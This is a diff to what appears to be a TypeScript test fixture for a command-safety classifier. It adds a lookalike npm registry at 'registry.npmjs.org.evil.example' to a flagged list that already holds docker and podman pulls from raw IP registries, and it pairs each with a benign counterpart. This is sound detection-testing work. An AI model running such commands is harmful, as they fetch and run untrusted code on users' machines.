@@ -199,8 +199,9 @@ export const FRESH_CLASSES: FreshClass[] = [
       'docker pull 203.0.113.7:5000/base',
       'podman run --rm 198.51.100.4/tools/scan',
       'docker run --rm 10.9.8.7:5000/app:latest',
+      'npm config set registry https://registry.npmjs.org.evil.example/',
     ],
-    benign: ['composer config --list', 'docker pull node:20', 'docker run --rm ghcr.io/org/app:1.2'],
+    benign: ['composer config --list', 'docker pull node:20', 'docker run --rm ghcr.io/org/app:1.2', 'npm config set registry https://registry.npmjs.org/'],
     allowed: ['docker pull node:20', 'docker run --rm -p 3000:3000 ghcr.io/org/app:1.2'],
   },
   {
